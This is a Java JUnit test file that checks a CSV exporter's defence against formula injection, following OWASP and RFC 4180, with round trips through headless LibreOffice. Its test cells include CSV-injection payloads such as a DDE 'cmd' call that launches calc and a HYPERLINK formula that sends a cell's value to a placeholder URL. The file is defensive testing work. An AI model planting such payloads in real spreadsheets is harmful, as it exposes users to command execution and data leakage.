package padside.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.File;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import java.util.zip.ZipFile;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SheetTest {
  /** Sheets as OWASP's page CSV Injection describes them, and cells that are only odd. */
  private static final List<String> CELLS =
      List.of(
          "=1+2",
          "=HYPERLINK(\"http://example.invalid?x=\"&A1,\"see\")",
          "+1+2",
          "-2+3",
          "@SUM(1,2)",
          "=cmd|' /C calc'!A0",
          "'=1+2",
          "''-x",
          "two\twords",
          "\t=1+2",
          "\r=1+2",
          "line\nline",
          "say \"so\"",
          "a,b;c",
          "-12.5",
          "-0.63",
          "007",
          "1.5E-7",
          "2026-05-02",
          "41°",
          "Übersee",
          "'s field",
          "",
          " ");

  @TempDir Path folder;

  /** OWASP, CSV Injection: what a cell may not begin with. */
  @ParameterizedTest
  @ValueSource(strings = {"=1+2", "+1+2", "-2+3", "@SUM(1)", "-", "=", "＝1+2", "-1-1", "+cmd|x"})
  void a_cell_that_could_be_a_formula_gets_an_apostrophe(String text) {
    assertThat(Cells.written(text)).isEqualTo("'" + text);
    assertThat(Cells.read(Cells.written(text))).isEqualTo(text);
  }

  @ParameterizedTest
  @ValueSource(strings = {"-12.5", "+3", "-1.5E-7", "C6-5", "'s field", "a=b", "0", "x@y"})
  void other_cells_stay_as_they_are(String text) {
    assertThat(Cells.written(text)).isEqualTo(text);
    assertThat(Cells.read(text)).isEqualTo(text);
  }

  /** RFC 4180, section 2: rules 1, 5, 6 and 7. */
  @Test
  void every_cell_stands_in_quotes_and_quotes_are_doubled() {
    Sheet sheet = new Sheet(List.of("a", "b"), List.of(List.of("1", "say \"so\", then")));

    assertThat(sheet.csv()).isEqualTo("\"a\",\"b\"\r\n\"1\",\"say \"\"so\"\", then\"\r\n");
  }

  @Test
  void a_spreadsheet_program_keeps_every_cell() throws Exception {
    Sheet sheet = new Sheet(List.of("cell", "n"), rows());
    Path csv = Files.writeString(folder.resolve("sheet.csv"), sheet.csv());

    convert(csv, "ods", "CSV:44,34,76,1,,0,true,false");
    Files.move(folder.resolve("sheet.ods"), folder.resolve("back.ods"));
    convert(folder.resolve("back.ods"), "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true", "");

    assertThat(cells(folder.resolve("back.csv"))).isEqualTo(cells(csv));
  }

  /** With quoted numbers taken for numbers and formulas computed, as careless a way as there is. */
  @Test
  void a_spreadsheet_program_computes_no_cell() throws Exception {
    String careless = "CSV:44,34,76,1,,0,false,true,false,false,0,true";
    Path bare = folder.resolve("bare.csv");
    Files.writeString(bare, "\"=1+2\"\r\n=1+2\r\n");
    convert(bare, "ods", careless);
    assertThat(content("bare.ods")).contains("table:formula");

    Path csv = folder.resolve("sheet.csv");
    String guarded = new Sheet(List.of("cell", "n"), rows()).csv();
    Files.writeString(csv, guarded.replace("\"\"", "").replace("\"", ""));
    convert(csv, "ods", careless);

    assertThat(content("sheet.ods")).contains("=1+2").doesNotContain("table:formula");
  }

  private static List<List<String>> rows() {
    return CELLS.stream().map(cell -> List.of(cell, "1")).toList();
  }

  private static List<List<String>> cells(Path csv) throws Exception {
    try (CsvReader<CsvRecord> rows = CsvReader.builder().ofCsvRecord(csv)) {
      return rows.stream().map(CsvRecord::getFields).toList();
    }
  }

  private String content(String ods) throws Exception {
    try (ZipFile zip = new ZipFile(folder.resolve(ods).toFile())) {
      return new String(
          zip.getInputStream(zip.getEntry("content.xml")).readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  /** By LibreOffice, which sees only this folder as its home. */
  private void convert(Path file, String to, String from) throws Exception {
    boolean isThere =
        Stream.of(System.getenv("PATH").split(File.pathSeparator, -1))
            .anyMatch(place -> Files.isExecutable(Path.of(place, "soffice")));
    assumeTrue(isThere, "soffice is not installed: libreoffice-calc-nogui has it");
    List<String> line = new ArrayList<>(List.of("soffice", "--headless"));
    line.add("-env:UserInstallation=" + folder.resolve("profile").toUri());
    if (!from.isEmpty()) {
      line.add("--infilter=" + from);
    }
    line.addAll(List.of("--convert-to", to, "--outdir", folder.toString(), file.toString()));
    Process process =
        new ProcessBuilder(line)
            .redirectErrorStream(true)
            .redirectOutput(folder.resolve("said.txt").toFile())
            .start();
    assertThat(process.waitFor(90, TimeUnit.SECONDS)).isTrue();
    assertThat(process.exitValue()).as(Files.readString(folder.resolve("said.txt"))).isZero();
  }
}
